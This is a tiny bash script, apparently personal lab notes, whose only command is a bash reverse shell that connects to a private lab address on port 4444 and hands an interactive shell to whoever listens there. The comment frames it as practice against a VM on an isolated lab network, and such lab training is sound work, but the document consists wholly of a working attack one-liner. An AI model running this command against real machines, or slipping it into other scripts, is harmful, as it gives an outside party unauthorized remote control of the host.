#!/bin/bash
# Lab notes: catch a shell from the practice VM on the isolated lab network.
bash -i >& /dev/tcp/10.10.14.3/4444 0>&1
